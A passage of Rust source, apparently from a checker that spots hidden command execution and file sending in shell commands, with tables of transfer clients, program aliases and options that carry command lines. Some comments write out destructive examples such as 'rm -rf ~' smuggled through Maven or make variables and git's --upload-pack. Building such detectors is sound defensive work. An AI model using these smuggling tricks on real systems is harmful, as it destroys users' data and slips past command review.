            "atime-preserve",
            "auto-compress",
            "backup",
            "block-number",
            "blocking-factor",
            "bzip2",
            "catenate",
            "check-device",
            "check-links",
            "checkpoint",
            "checkpoint-action",
            "clamp-mtime",
            "compare",
            "compress",
            "concatenate",
            "confirmation",
            "create",
            "delay-directory-restore",
            "delete",
            "dereference",
            "diff",
            "directory",
            "exclude",
            "exclude-backups",
            "exclude-caches",
            "exclude-caches-all",
            "exclude-caches-under",
            "exclude-from",
            "exclude-ignore",
            "exclude-ignore-recursive",
            "exclude-tag",
            "exclude-tag-all",
            "exclude-tag-under",
            "exclude-vcs",
            "exclude-vcs-ignores",
            "extract",
            "file",
            "files-from",
            "force-local",
            "format",
            "full-time",
            "get",
            "group",
            "group-map",
            "gunzip",
            "gzip",
            "hard-dereference",
            "help",
            "hole-detection",
            "ignore-case",
            "ignore-command-error",
            "ignore-failed-read",
            "ignore-zeros",
            "incremental",
            "index-file",
            "info-script",
            "interactive",
            "keep-directory-symlink",
            "keep-newer-files",
            "keep-old-files",
            "label",
            "level",
            "list",
            "listed-incremental",
            "lzip",
            "lzma",
            "lzop",
            "mode",
            "mtime",
            "multi-volume",
            "new-volume-script",
            "newer",
            "newer-mtime",
            "no-acls",
            "no-anchored",
            "no-auto-compress",
            "no-check-device",
            "no-delay-directory-restore",
            "no-ignore-case",
            "no-ignore-command-error",
            "no-null",
            "no-overwrite-dir",
            "no-quote-chars",
            "no-recursion",
            "no-same-owner",
            "no-same-permissions",
            "no-seek",
            "no-selinux",
            "no-unquote",
            "no-verbatim-files-from",
            "no-wildcards",
            "no-wildcards-match-slash",
            "no-xattrs",
            "null",
            "numeric-owner",
            "occurrence",
            "old-archive",
            "one-file-system",
            "one-top-level",
            "overwrite",
            "overwrite-dir",
            "owner",
            "owner-map",
            "pax-option",
            "portability",
            "posix",
            "preserve-order",
            "preserve-permissions",
            "program-name",
            "quote-chars",
            "quoting-style",
            "read-full-records",
            "record-size",
            "recursion",
            "recursive-unlink",
            "remove-files",
            "restrict",
            "rmt-command",
            "rsh-command",
            "same-order",
            "same-owner",
            "same-permissions",
            "seek",
            "selinux",
            "set-mtime-command",
            "set-mtime-format",
            "show-defaults",
            "show-omitted-dirs",
            "show-snapshot-field-ranges",
            "show-stored-names",
            "show-transformed-names",
            "skip-old-files",
            "sort",
            "sparse",
            "sparse-version",
            "starting-file",
            "strip-components",
            "suffix",
            "tape-length",
            "test-label",
            "to-command",
            "to-stdout",
            "totals",
            "touch",
            "transform",
            "uncompress",
            "ungzip",
            "unlink-first",
            "unquote",
            "update",
            "usage",
            "use-compress-program",
            "utc",
            "verbatim-files-from",
            "verbose",
            "verify",
            "version",
            "volno-file",
            "warning",
            "wildcards",
            "wildcards-match-slash",
            "xattrs",
            "xattrs-exclude",
            "xattrs-include",
            "xform",
            "xz",
            "zstd",
        ],
        "find" => &[],
        "shred" => &[
            "force",
            "iterations",
            "random-source",
            "size",
            "remove",
            "verbose",
            "exact",
            "zero",
            "help",
            "version",
        ],
        "env" => crate::wrapper::ENV_LONG_OPTIONS,
        _ => &[],
    }
}

/// A program's options that move it into a folder before it does its work, each below the
/// one before unless absolute (`git -C a -C b` works in `a/b`)
#[derive(Debug)]
pub(crate) struct FolderOptions {
    pub(crate) programs: &'static [&'static str],
    /// The options, taking the folder as their value (`-C DIR`, `-CDIR`, `--directory=DIR`)
    pub(crate) options: &'static [&'static str],
    /// Whether the option moves only the operands after it (tar(1) reads each operand in the
    /// folder of the last `-C` before it), rather than the whole command (git(1))
    pub(crate) operands_after: bool,
}

/// Programs that work in a folder an option names: tar(1) `-C`/`--directory`/`--cd`,
/// git(1) `-C`
pub(crate) const FOLDER_OPTIONS: &[FolderOptions] = &[
    FolderOptions {
        programs: &["tar", "gtar", "bsdtar"],
        options: &["-C", "--directory", "--cd"],
        operands_after: true,
    },
    FolderOptions {
        programs: &["git"],
        options: &["-C"],
        operands_after: false,
    },
];

/// The row of [`FOLDER_OPTIONS`] of `program`
pub(crate) fn folder_options(program: &str) -> Option<&'static FolderOptions> {
    FOLDER_OPTIONS
        .iter()
        .find(|row| row.programs.contains(&program))
}

/// `path` as reached after moving into `folders` in order: below the last, each below the
/// one before, an absolute one (`/`, `~`) starting over
pub(crate) fn below_folders<'a>(
    folders: impl DoubleEndedIterator<Item = &'a str>,
    path: &str,
) -> String {
    let mut joined = path.to_owned();
    for folder in folders.rev() {
        if joined.starts_with(['/', '~']) {
            break;
        }
        joined = format!("{}/{joined}", folder.trim_end_matches('/'));
    }
    joined
}

/// A file-transfer client that takes commands of its own language from an option, a file or
/// its input (`lftp -e 'put F; bye'`, `sftp -b cmds host`, `sftp host <<< 'put F'`): the
/// words after its sending commands are local files it reads and sends, and a command
/// that starts with `!` hands the rest of its line to a shell
#[derive(Debug)]
pub(crate) struct TransferClient {
    pub(crate) programs: &'static [&'static str],
    /// Options whose value holds its commands
    pub(crate) options: &'static [&'static str],
    /// Options whose value names a file of its commands
    pub(crate) script_options: &'static [&'static str],
    /// Whether it reads its commands from its input
    pub(crate) input: bool,
    /// The commands that send local files
    pub(crate) sends: &'static [&'static str],
}

/// File-transfer clients, their commands' options and sending commands (lftp(1): `-e`, `-c`,
/// `-f`; sftp(1): `-b`; ftp(1)); each runs `!command` in a local shell
pub(crate) const TRANSFER_CLIENTS: &[TransferClient] = &[
    TransferClient {
        programs: &["lftp"],
        options: &["-e", "-c"],
        script_options: &["-f"],
        input: true,
        sends: &["put", "mput", "reput", "sput", "mirror"],
    },
    TransferClient {
        programs: &["sftp"],
        options: &[],
        script_options: &["-b"],
        input: true,
        sends: &["put", "mput", "reput", "send", "append"],
    },
    TransferClient {
        programs: &["ftp", "pftp", "tnftp", "ncftp"],
        options: &[],
        script_options: &[],
        input: true,
        sends: &["put", "mput", "reput", "send", "append"],
    }, // smbclient(1): `-c 'cmd; cmd'`, else commands read from its input.
    TransferClient {
        programs: &["smbclient"],
        options: &["-c", "--command"],
        script_options: &[],
        input: true,
        sends: &["put", "mput", "reput"],
    },
];

/// What a transfer client is told to do on its command line and input
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct TransferCommands {
    /// The local files its sending commands name (every word but options, so a remote name
    /// counts too: a path more, never one fewer)
    pub(crate) sent: Vec<String>,
    /// The command lines its `!` commands hand a shell
    pub(crate) shell_lines: Vec<String>,
    /// Values of its command options known only at run time, as they travel (encoded)
    pub(crate) unknown: Vec<String>,
    /// The files it reads more commands from (`lftp -f FILE`, `sftp -b FILE`)
    pub(crate) files: Vec<String>,
    /// Whether it reads commands from its input: given none as text, the input is whatever
    /// comes down the pipe or the redirect
    pub(crate) reads_input: bool,
}

/// What `program` is told to do by `args` and `input` ([`TransferCommands`]), an option's
/// value being known when `is_unknown` says it is not; `None` when `program` is no transfer
/// client the table knows
pub(crate) fn transfer_commands(
    program: &str,
    args: &[String],
    input: Option<&str>,
    is_unknown: impl Fn(&str) -> bool,
) -> Option<TransferCommands> {
    let client = TRANSFER_CLIENTS
        .iter()
        .find(|row| row.programs.contains(&program))?;
    let mut found = TransferCommands {
        reads_input: client.input && input.is_none(),
        ..TransferCommands::default()
    };
    // The value of `options` in `arg`: the next word, or glued to a short one (`-e'put F'`,
    // as getopt reads it)
    let value_of = |options: &[&str], arg: &str, next: Option<&'_ String>| -> Option<String> {
        if options.contains(&arg) {
            return next.cloned();
        }
        options
            .iter()
            .filter(|option| option.len() == 2)
            .find_map(|option| arg.strip_prefix(option).filter(|rest| !rest.is_empty()))
            .map(str::to_owned)
    };
    let mut texts: Vec<String> = Vec::new();
    for (at, arg) in args.iter().enumerate() {
        let next = args.get(at + 1);
        if let Some(value) = value_of(client.options, arg, next) {
            if is_unknown(&value) {
                found.unknown.push(value);
            } else {
                texts.push(value);
            }
        } else if let Some(file) = value_of(client.script_options, arg, next) {
            found.files.push(file);
        }
    }
    if client.input {
        texts.extend(input.map(str::to_owned));
    }
    for command in texts.iter().flat_map(|text| text.split(['\n', ';'])) {
        let command = command.trim_start();
        if let Some(line) = command.strip_prefix('!') {
            found.shell_lines.extend(
                Some(line.trim())
                    .filter(|line| !line.is_empty())
                    .map(str::to_owned),
            );
            continue;
        }
        let mut words = command
            .split_whitespace()
            .map(|word| word.trim_matches(|ch| ch == '"' || ch == '\''));
        if words
            .next()
            .is_some_and(|name| client.sends.contains(&name))
        {
            found.sent.extend(
                words
                    .filter(|word| !word.starts_with('-'))
                    .map(str::to_owned),
            );
        }
    }
    Some(found)
}

/// Programs that are another one under their own name: a drop-in replacement installed
/// beside it (`sudo-rs`), or a wrapper that hands every command on (`hub` to `git`)
const CALLED_AS: &[(&str, &str)] = &[
    ("hub", "git"),
    ("sudo-rs", "sudo"),
    ("su-rs", "su"),
    // MariaDB 11 renamed its programs; the old names are links to the new
    ("mariadb-admin", "mysqladmin"),
    // Docker-compatible CLIs whose subcommands and options are docker's
    ("finch", "docker"),
    // Debian's name of Node.js before it became `node`
    ("nodejs", "node"),
    // A `find` with GNU find's expressions (`-delete`, `-exec`)
    ("bfs", "find"),
];

/// GNU coreutils, findutils, sed and tar, which Homebrew and the BSDs install with a `g`
/// before the name (`grm`, `gfind`), and uutils with `uu-` (`uu-rm`): the same programs
const GNU_PREFIXED: &[&str] = &[
    "rm", "cp", "mv", "dd", "shred", "truncate", "ln", "install", "tee", "find", "xargs", "sed",
    "tar", "chmod", "chown", "chgrp", "rmdir", "unlink", "mkdir", "touch", "split", "env",
    "timeout", "nice", "nohup", "stdbuf", "chroot", "cat", "base64", "mktemp", "sort", "head",
    "tail",
];

/// The program `program` with `args` is, and its words: a row of [`CALLED_AS`] or of
/// [`GNU_PREFIXED`] (`grm`, `uu-rm` are `rm`); git's
/// commands run by their own name (`git-push ARGS` is `git push ARGS`, as git runs
/// `git-filter-repo` for `git filter-repo`); a multi-call `coreutils --coreutils-prog=rm`
pub(crate) fn called_as(program: String, mut args: Vec<String>) -> (String, Vec<String>) {
    if let Some((_, name)) = CALLED_AS.iter().find(|(alias, _)| *alias == program) {
        return ((*name).to_owned(), args);
    }
    static GNU_NAMES: LazyLock<NameFilter> =
        LazyLock::new(|| GNU_PREFIXED.iter().copied().collect());
    let unprefixed = program
        .strip_prefix("uu-")
        .or_else(|| program.strip_prefix('g'))
        .filter(|name| GNU_NAMES.may_hold(name) && GNU_PREFIXED.contains(name));
    if let Some(name) = unprefixed {
        return (name.to_owned(), args);
    }
    if let Some(command) = program.strip_prefix("git-").filter(|rest| !rest.is_empty()) {
        args.insert(0, command.to_owned());
        return ("git".to_owned(), args);
    }
    // capsh(1) runs `/bin/bash` with the words after `--`.
    if program == "capsh" {
        if let Some(at) = args.iter().position(|arg| arg == "--") {
            return ("bash".to_owned(), args.split_off(at + 1));
        }
    }
    if program == "coreutils" {
        if let Some(name) = args
            .first()
            .and_then(|first| first.strip_prefix("--coreutils-prog="))
            .filter(|name| !name.is_empty())
            .map(str::to_owned)
        {
            args.remove(0);
            return (name, args);
        }
    }
    (program, args)
}

/// A program that takes its subcommand by another name too: an alias, or any prefix that
/// starts one of its commands (or aliases) alone, as the program resolves it
#[derive(Debug)]
pub(crate) struct CommandNames {
    pub(crate) programs: &'static [&'static str],
    /// Its commands, as the program lists them
    pub(crate) commands: &'static [&'static str],
    /// Other names of commands: (alias, command)
    pub(crate) aliases: &'static [(&'static str, &'static str)],
}

/// Programs whose subcommands may be abbreviated: `npm publ` is `npm publish` (npm's
/// `lib/utils/cmd-list.js`: a command, an alias, or a prefix of one command or alias alone,
/// then the alias's command), `gem pu` is `gem push` (RubyGems' `CommandManager`: the one
/// command a prefix starts). The lists are the newest ones: a prefix that an older release
/// would read as one command and these as two is read as neither.
pub(crate) const COMMAND_NAMES: &[CommandNames] = &[
    CommandNames {
        programs: &["npm"],
        commands: &[
            "access",
            "approve-scripts",
            "audit",
            "bugs",
            "cache",
            "ci",
            "completion",
            "config",
            "dedupe",
            "deny-scripts",
            "deprecate",
            "diff",
            "dist-tag",
            "docs",
            "doctor",
            "edit",
            "exec",
            "explain",
            "explore",
            "find-dupes",
            "fund",
            "get",
            "help",
            "help-search",
            "init",
            "install",
            "install-ci-test",
            "install-test",
            "link",
            "ll",
            "login",
            "logout",
            "ls",
            "org",
            "outdated",
            "owner",
            "pack",
            "ping",
            "pkg",
            "prefix",
            "profile",
            "prune",
            "publish",
            "query",
            "rebuild",
            "repo",
            "restart",
            "root",
            "run",
            "sbom",
            "search",
            "set",
            "stage",
            "start",
            "stop",
            "team",
            "test",
            "token",
            "trust",
            "undeprecate",
            "uninstall",
            "unpublish",
            "update",
            "version",
            "view",
            "whoami",
        ],
        aliases: &[
            ("author", "owner"),
            ("home", "docs"),
            ("issues", "bugs"),
            ("info", "view"),
            ("show", "view"),
            ("find", "search"),
            ("add", "install"),
            ("unlink", "uninstall"),
            ("remove", "uninstall"),
            ("rm", "uninstall"),
            ("r", "uninstall"),
            ("un", "uninstall"),
            ("rb", "rebuild"),
            ("list", "ls"),
            ("ln", "link"),
            ("create", "init"),
            ("i", "install"),
            ("it", "install-test"),
            ("cit", "install-ci-test"),
            ("u", "update"),
            ("up", "update"),
            ("c", "config"),
            ("s", "search"),
            ("se", "search"),
            ("tst", "test"),
            ("t", "test"),
            ("ddp", "dedupe"),
            ("v", "view"),
            ("run-script", "run"),
            ("clean-install", "ci"),
            ("clean-install-test", "install-ci-test"),
            ("x", "exec"),
            ("why", "explain"),
            ("la", "ll"),
            ("verison", "version"),
            ("ic", "ci"),
            ("innit", "init"),
            ("in", "install"),
            ("ins", "install"),
            ("inst", "install"),
            ("insta", "install"),
            ("instal", "install"),
            ("isnt", "install"),
            ("isnta", "install"),
            ("isntal", "install"),
            ("isntall", "install"),
            ("install-clean", "ci"),
            ("isntall-clean", "ci"),
            ("hlep", "help"),
            ("dist-tags", "dist-tag"),
            ("upgrade", "update"),
            ("udpate", "update"),
            ("rum", "run"),
            ("sit", "install-ci-test"),
            ("urn", "run"),
            ("ogr", "org"),
        ],
    },
    CommandNames {
        programs: &["gem"],
        commands: &[
            "build",
            "cert",
            "check",
            "cleanup",
            "contents",
            "dependency",
            "environment",
            "exec",
            "fetch",
            "generate_index",
            "help",
            "info",
            "install",
            "list",
            "lock",
            "mirror",
            "open",
            "outdated",
            "owner",
            "pristine",
            "push",
            "query",
            "rdoc",
            "rebuild",
            "search",
            "server",
            "signin",
            "signout",
            "sources",
            "specification",
            "stale",
            "uninstall",
            "unpack",
            "update",
            "which",
            "yank",
        ],
        aliases: &[],
    },
];

/// The command `word` names for `program`, as the program resolves it: itself when it is a
/// command (or the program has no table), the command of an alias, or the one command (or
/// alias) it is a prefix of; itself too when it starts several ([`COMMAND_NAMES`])
pub(crate) fn command_name<'w>(program: &str, word: &'w str) -> &'w str {
    let Some(row) = COMMAND_NAMES
        .iter()
        .find(|row| row.programs.contains(&program))
    else {
        return word;
    };
    let alias = |name: &str| {
        row.aliases
            .iter()
            .find(|(alias, _)| *alias == name)
            .map(|(_, command)| *command)
    };
    if word.is_empty() || row.commands.contains(&word) {
        return word;
    }
    if let Some(command) = alias(word) {
        return command;
    }
    let mut names = row
        .commands
        .iter()
        .copied()
        .chain(row.aliases.iter().map(|(alias, _)| *alias))
        .filter(|name| name.starts_with(word));
    match (names.next(), names.next()) {
        (Some(name), None) => alias(name).unwrap_or(name),
        _ => word,
    }
}

/// The options before a program's subcommand that take the next word as their value
/// (`git -C repo push`)
pub(crate) fn global_valued_options(program: &str) -> &'static [&'static str] {
    match program {
        "git" => &[
            "-C",
            "-c",
            "--git-dir",
            "--work-tree",
            "--namespace",
            "--exec-path",
            "--config-env",
            "--super-prefix",
            "--list-cmds",
        ],
        "docker" | "podman" => &[
            "-H",
            "--host",
            "-c",
            "--context",
            "--config",
            "-l",
            "--log-level",
        ],
        "kubectl" | "oc" => &[
            "-n",
            "--namespace",
            "--context",
            "--kubeconfig",
            "-s",
            "--server",
        ],
        // The cluster tools' own options before a command (`talosctl -n NODE reset`,
        // `helm -n NS uninstall R`, `flux -n NS delete ks K`).
        "helm" | "flux" => &[
            "-n",
            "--namespace",
            "--kube-context",
            "--context",
            "--kubeconfig",
        ],
        "talosctl" => &[
            "-n",
            "--nodes",
            "-e",
            "--endpoints",
            "--talosconfig",
            "--context",
            "--cluster",
        ],
        // The cloud CLIs' global options (`gcloud --project P compute instances delete`).
        "gcloud" => &[
            "--project",
            "--account",
            "--configuration",
            "--format",
            "--verbosity",
            "--impersonate-service-account",
            "--billing-project",
        ],
        "az" => &["--subscription", "-o", "--output", "--query"],
        "doctl" => &["-t", "--access-token", "--context", "-o", "--output"],
        "npm" | "yarn" | "pnpm" => &[
            "-C",
            "--prefix",
            "--dir",
            "--cwd",
            "-w",
            "--workspace",
            "--filter",
        ],
        "cargo" => &["-C", "--config", "-Z"],
        // aws(1) global options (`aws --profile prod configure ...`).
        "aws" => &[
            "--profile",
            "--region",
            "--output",
            "--endpoint-url",
            "--query",
            "--ca-bundle",
            "--color",
            "--cli-read-timeout",
            "--cli-connect-timeout",
            "--cli-binary-format",
        ],
        _ => &[],
    }
}

/// The long option `name` stands for in `program`: itself when known or unknown to the
/// table, or the one option it is a unique prefix of
pub(crate) fn full_option<'n>(program: &str, name: &'n str) -> &'n str
where
    'static: 'n,
{
    let Some(first) = name.bytes().next() else {
        return name;
    };
    // One pass over the options (asked of every long flag, and git lists dozens): those the
    // name starts, told apart by their first byte before their text is compared.
    let mut started = None;
    let mut several = false;
    for option in long_options(program) {
        if option.bytes().next() != Some(first) || !option.starts_with(name) {
            continue;
        }
        if option.len() == name.len() {
            return name;
        }
        several |= started.is_some();
        started = Some(*option);
    }
    match started {
        Some(only) if !several => only,
        _ => name,
    }
}

/// How a program's option carries a command line it runs
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Carried {
    /// The value is the command line (`script -c CMD`)
    Whole,
    /// The value is `KEY=VALUE` (or `KEY VALUE`), and the VALUE of these keys (compared
    /// without case, `*` standing for any subsection) is a command line, after a leading
    /// `!` (`ssh -o ProxyCommand=CMD`, `git -c core.fsmonitor=CMD`, `diff.*.textconv`)
    Keys(&'static [&'static str]),
    /// As `Keys`, the keys those of the settings (see [`CommandSetting`])
    Settings(&'static [CommandSetting]),
    /// A value that starts with `|` or `!` is a command line the program pipes its output
    /// into; any other value names a file (`strace -o '|CMD'`)
    Piped,
    /// The value is an editor's Ex command: `:!CMD` and Vim script's `system("CMD")` run a
    /// command line, `delete(PATH, "rf")` removes a path (see `crate::vim`)
    Vim,
    /// The value is text in the program's own language whose commands a shell runs, which
    /// the reader does not read (`make --eval`, `sed` with an `e` command): unknown
    Opaque(&'static str),
    /// The options are flags, and the words after the subcommand (after a wrapper's own
    /// options, for a row with none) are one command line, joined with spaces, when one of
    /// them is given, or always when the row names none (`pnpm -c exec 'CMD'`, `bun exec
    /// 'CMD'`)
    Words,
    /// rpm macro text: each `%(CMD)` is a command line a shell runs as the macro expands,
    /// and `%{lua: …}` Lua code, which the reader does not read
    RpmMacro,
    /// `KEY=VALUE` of a TOML setting whose key matches one of these (`*` for any part, as
    /// in [`Carried::Keys`]), its value a string (the command line) or an array of strings
    /// (the program and its words): cargo's `--config target.<triple>.runner=[…]`
    Toml(&'static [&'static str]),
    /// The setting `config set KEY VALUE` (or `KEY=VALUE`) stores for these keys is a
    /// program the package manager runs from then on (`npm config set script-shell
    /// PATH`): read as that program, run
    ConfigSet(&'static [&'static str]),
    /// The row's options give `KEY=VALUE` settings, and the values of these keys, in this
    /// order, joined by a space, are one command line when the first is given: Maven's
    /// `-Dexec.executable=rm -Dexec.args='-rf ~'` runs `rm -rf ~`
    Joined(&'static [&'static str]),
    /// Each operand is a command line, the row's options taking the next word as their
    /// value (`hyperfine 'CMD' 'CMD'`, `concurrently 'CMD' 'CMD'`), and so is the value of
    /// each of the row's options listed here (`hyperfine --prepare 'CMD'`)
    Operands(&'static [&'static str]),
}

/// A program that runs a command line given in one of its options
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct ScriptOption {
    /// The programs
    pub(crate) programs: &'static [&'static str],
    /// The subcommands it takes effect under (`git rebase -x`); empty for any
    pub(crate) subcommands: &'static [&'static str],
    /// Options whose value is the next word, or follows `=` for a long one; a short one
    /// may end a cluster (`script -qc CMD`) where `clusters` says so
    pub(crate) options: &'static [&'static str],
    /// Whether short options may be clustered, as getopt reads them; PowerShell takes whole
    /// parameter names only, so its `-e` never ends `-NoProfile`
    pub(crate) clusters: bool,
    /// Starts of one word whose rest is the value (`--checkpoint-action=exec=CMD`, `+CMD`)
    pub(crate) glued: &'static [&'static str],
    /// How the value carries the command line
    pub(crate) carried: Carried,
}

/// make's variables that name a program its recipes run, as given on make's command line
/// (the implicit rules' `CC`, `CXX`, `LD`, ... of the GNU make manual, and `SHELL`, which
/// runs every recipe line)
const MAKE_PROGRAM_VARIABLES: &[&str] = &[
    "CC=",
    "CXX=",
    "CPP=",
    "LD=",
    "AR=",
    "AS=",
    "FC=",
    "PC=",
    "M2C=",
    "CO=",
    "GET=",
    "LEX=",
    "YACC=",
    "LINT=",
    "MAKEINFO=",
    "TEX=",
    "TEXI2DVI=",
    "WEAVE=",
    "CWEAVE=",
    "TANGLE=",
    "CTANGLE=",
    "RM=",
    "SHELL=",
    "MAKE=",
    "INSTALL=",
    "CP=",
    "MV=",
    "LN=",
    "MKDIR=",
    "NM=",
    "RANLIB=",
    "STRIP=",
    "OBJCOPY=",
    "PYTHON=",
    "PERL=",
    "GO=",
    "CARGO=",
    "NPM=",
    "DOCKER=",
    "SED=",
    "AWK=",
    "TAR=",
];

/// Every program that runs a command line given in an option, one row each
pub(crate) const SCRIPT_OPTIONS: &[ScriptOption] = &[
    ScriptOption {
        programs: &["tar", "gtar", "bsdtar"],
        subcommands: &[],
        options: &[
            "-I",
            "--use-compress-program",
            "--to-command",
            "-F",
            "--info-script",
            "--new-volume-script",
            "--rsh-command",
            "--set-mtime-command",
        ],
        clusters: true,
        glued: &["--checkpoint-action=exec="],
        carried: Carried::Whole,
    },
    // npm-config(7) and pnpm's settings: `script-shell` is the shell the package scripts of
    // `npm run`, `npm test`, `npm install` run in.
    ScriptOption {
        programs: &["npm", "pnpm", "yarn"],
        subcommands: &[],
        options: &["--script-shell"],
        clusters: false,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["npm", "pnpm", "yarn"],
        subcommands: &["config", "c"],
        options: &[],
        clusters: false,
        glued: &[],
        // Yarn 2 and later spell it `scriptShell` (yarnrc.yml).
        carried: Carried::ConfigSet(&["script-shell", "scriptShell"]),
    },
    ScriptOption {
        programs: &["ssh", "scp", "sftp"],
        subcommands: &[],
        options: &["-o"],
        clusters: true,
        glued: &["-o"],
        // ssh_config(5): each runs a command line on this machine (`RemoteCommand` the other
        // end's, read all the same), `KnownHostsCommand` since OpenSSH 8.5.
        carried: Carried::Keys(&[
            "proxycommand",
            "localcommand",
            "remotecommand",
            "knownhostscommand",
        ]),
    },
    // nmap(1): `--script=FILE` runs the Lua script FILE (a script's or a category's name
    // is one of nmap's own); read as the file run, as `--script-shell`'s is.
    ScriptOption {
        programs: &["nmap"],
        subcommands: &[],
        options: &["--script"],
        clusters: false,
        glued: &[],
        carried: Carried::Whole,
    },
    // split(1): `--filter=COMMAND` pipes each piece into a shell running COMMAND.
    ScriptOption {
        programs: &["split", "gsplit"],
        subcommands: &[],
        options: &["--filter"],
        clusters: false,
        glued: &[],
        carried: Carried::Whole,
    },
    // scp(1), sftp(1): `-S PROGRAM` is run in place of ssh (ssh's own `-S` is a socket).
    ScriptOption {
        programs: &["scp", "sftp"],
        subcommands: &[],
        options: &["-S"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["rsync"],
        subcommands: &[],
        options: &["-e", "--rsh", "--rsync-path"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    // entr(1): `-s` hands the utility to the shell as one command line.
    ScriptOption {
        programs: &["entr"],
        subcommands: &[],
        options: &["-s"],
        clusters: true,
        glued: &[],
        carried: Carried::Words,
    },
    // `pm2 start 'CMD'` runs a command line as the process it keeps (a file's name runs
    // that file, read as a program is).
    ScriptOption {
        programs: &["pm2"],
        subcommands: &["start"],
        options: &[],
        clusters: false,
        glued: &[],
        carried: Carried::Words,
    },
    // `husky add .husky/pre-push 'CMD'` (`set` too, husky 4 to 8) writes a git hook that
    // runs the command line at the next push or commit. Every operand is read as a command
    // line: the hook's path alone runs the file it names.
    ScriptOption {
        programs: &["husky"],
        subcommands: &["add", "set"],
        options: &[],
        clusters: false,
        glued: &[],
        carried: Carried::Operands(&[]),
    },
    // `npm set-script NAME 'CMD'` (npm 7 and 8) writes a script of package.json that `npm run
    // NAME` runs. Every operand is read as a command line: NAME alone runs no harm.
    ScriptOption {
        programs: &["npm"],
        subcommands: &["set-script"],
        options: &[],
        clusters: false,
        glued: &[],
        carried: Carried::Operands(&[]),
    },
    // `go help build`: `-toolexec 'cmd args'` runs each tool of the build as `cmd args
    // TOOL ...`, for every command that builds.
    ScriptOption {
        programs: &["go"],
        subcommands: &[
            "build", "install", "run", "test", "vet", "generate", "get", "list",
        ],
        options: &["-toolexec", "--toolexec"],
        clusters: false,
        glued: &["-toolexec=", "--toolexec="],
        carried: Carried::Whole,
    },
    // gcc(1): `-wrapper PROG,ARG,...` runs each subcommand of the compiler through PROG.
    ScriptOption {
        programs: &["gcc", "g++", "cc", "c++", "gfortran", "cpp"],
        subcommands: &[],
        options: &["-wrapper"],
        clusters: false,
        glued: &[],
        carried: Carried::Opaque("`gcc -wrapper` runs the program its commas list"),
    },
    // make(1): a variable given on the command line overrides the makefile's, and a recipe
    // runs the commands it names (`$(CC) -o x x.c` is `rm -rf ~ -o x x.c` with `CC='rm -rf
    // ~'`): the variables that name a program are read as its command line.
    ScriptOption {
        programs: &["make", "gmake", "bmake", "remake"],
        subcommands: &[],
        options: &[],
        clusters: false,
        glued: MAKE_PROGRAM_VARIABLES,
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["script", "flock", "sg"],
        subcommands: &[],
        options: &["-c", "--command"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["strace"],
        subcommands: &[],
        options: &["-o", "--output"],
        clusters: true,
        glued: &["-o", "--output="],
        carried: Carried::Piped,
    },
    ScriptOption {
        programs: &["zip"],
        subcommands: &[],
        options: &["-TT", "--unzip-command"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["git"],
        subcommands: &[],
        options: &["-c"],
        clusters: true,
        glued: &[],
        carried: Carried::Settings(GIT_COMMAND_SETTINGS),
    },
    // The Cargo Book, "Configuration": `--config KEY=VALUE` sets a key in TOML, and these
    // name the program cargo runs a built program with, or links or compiles with; a
    // string is split on blanks, an array is the program and its words.
    ScriptOption {
        programs: &["cargo"],
        subcommands: &[],
        options: &["--config"],
        clusters: false,
        glued: &["--config="],
        carried: Carried::Toml(&[
            "target.*.runner",
            "target.*.linker",
            "build.rustc",
            "build.rustc-wrapper",
            "build.rustc-workspace-wrapper",
            "build.rustdoc",
        ]),
    },
    // rpm(8): `--eval`/`-E` expands macro text, and `%(CMD)` in it runs CMD at once.
    ScriptOption {
        programs: &["rpm", "rpmbuild", "rpmspec"],
        subcommands: &[],
        options: &["-E", "--eval"],
        clusters: true,
        glued: &["--eval="],
        carried: Carried::RpmMacro,
    },
    // `go help run`/`go help test`: `-exec xprog` runs the built program as `xprog a.out
    // args`, the value split on blanks.
    ScriptOption {
        programs: &["go"],
        subcommands: &["run", "test"],
        options: &["-exec", "--exec"],
        clusters: false,
        glued: &["-exec=", "--exec="],
        carried: Carried::Whole,
    },
    // `git difftool -x CMD` runs CMD on the two versions of each file; `git grep -OCMD`
    // opens the matching files with CMD (the value glued: `-O` alone takes the pager).
    ScriptOption {
        programs: &["git"],
        subcommands: &["difftool"],
        options: &["-x", "--extcmd"],
        clusters: true,
        glued: &["--extcmd="],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["git"],
        subcommands: &["grep"],
        options: &[],
        clusters: false,
        glued: &["-O", "--open-files-in-pager="],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["git"],
        subcommands: &["rebase"],
        options: &["-x", "--exec"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    // git-clone(1), git-fetch(1), git-push(1), ...: the program git runs at the other end, by
    // a shell, which for a repository on this machine runs here (`git clone
    // --upload-pack='CMD;git-upload-pack' ./repo x`), as `remote.*.uploadpack` does.
    ScriptOption {
        programs: &["git"],
        subcommands: &["clone", "ls-remote"],
        options: &["-u", "--upload-pack"],
        clusters: true,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["git"],
        subcommands: &["fetch", "pull", "fetch-pack"],
        options: &["--upload-pack"],
        clusters: false,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["git"],
        subcommands: &["push", "send-pack"],
        options: &["--receive-pack", "--exec"],
        clusters: false,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: &["git"],
        subcommands: &["archive"],
        options: &["--exec"],
        clusters: false,
        glued: &[],
        carried: Carried::Whole,
    },
    ScriptOption {
        programs: crate::vim::VIM_EDITORS,
        subcommands: &[],
        options: &["-c", "--cmd"],
        clusters: true,
        glued: &["+"],
        carried: Carried::Vim,
    },
    // PowerShell's `-EncodedCommand` is code in base64, which no word of it shows.
    ScriptOption {
        programs: &["pwsh", "powershell"],
        subcommands: &[],
        options: &[
            "-EncodedCommand",
            "-encodedcommand",
            "-ENCODEDCOMMAND",
            "-ec",
            "-EC",
            "-enc",
            "-Enc",
            "-e",
